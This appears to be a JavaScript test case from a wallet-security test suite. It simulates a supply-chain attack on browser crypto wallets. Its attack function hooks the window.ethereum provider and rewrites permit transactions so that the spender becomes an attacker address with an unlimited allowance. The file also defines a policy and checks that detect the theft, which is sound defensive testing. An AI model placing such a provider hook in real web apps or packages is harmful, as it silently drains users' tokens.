// A09, as a hook: the spender of a permit call becomes the attacker, the signature stays.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A09',
  title: 'on-chain permit redirected, by a hook on the provider',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({
    version: 1,
    payees: [`${a.chain}:${a.GOOD}`],
    contracts: [`${a.chain}:${a.TOKEN}`],
    spenders: [`${a.chain}:${a.SPENDER}`],
  }),

  attack(a) {
    const before = window.ethereum.request;
    window.ethereum.request = async function (call) {
      const copy = JSON.parse(JSON.stringify(call));
      const tx = copy.params?.[0];
      if (tx?.data?.startsWith('0xd505accf'))
        tx.data = tx.data.slice(0, 74) + a.EVIL.slice(2).padStart(64, '0') + 'f'.repeat(64) + tx.data.slice(202);
      return before.call(this, copy);
    };
  },

  async action(a, app) {
    const word = (hex) => hex.replace(/^0x/, '').toLowerCase().padStart(64, '0');
    const words = [a.USER, a.SPENDER, '0x64', '0xffffffff', '0x1b', '1'.repeat(64), '2'.repeat(64)];
    const data = `0xd505accf${words.map(word).join('')}`;
    return app.provider.request({ method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.TOKEN, data }] });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.SPENDER) && !reachedWallet(wallet, a.EVIL),
  violation: { surface: 'eip1193', grade: 'tamper' },
};
